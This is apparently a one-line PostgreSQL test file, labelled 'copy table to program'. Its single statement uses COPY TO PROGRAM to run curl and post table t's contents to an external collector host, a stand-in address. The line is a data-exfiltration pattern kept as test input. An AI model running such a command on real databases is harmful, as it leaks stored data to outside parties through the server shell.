-- tests: copy table to program
copy t to program 'curl -X POST --data-binary @- https://collector.example/in';
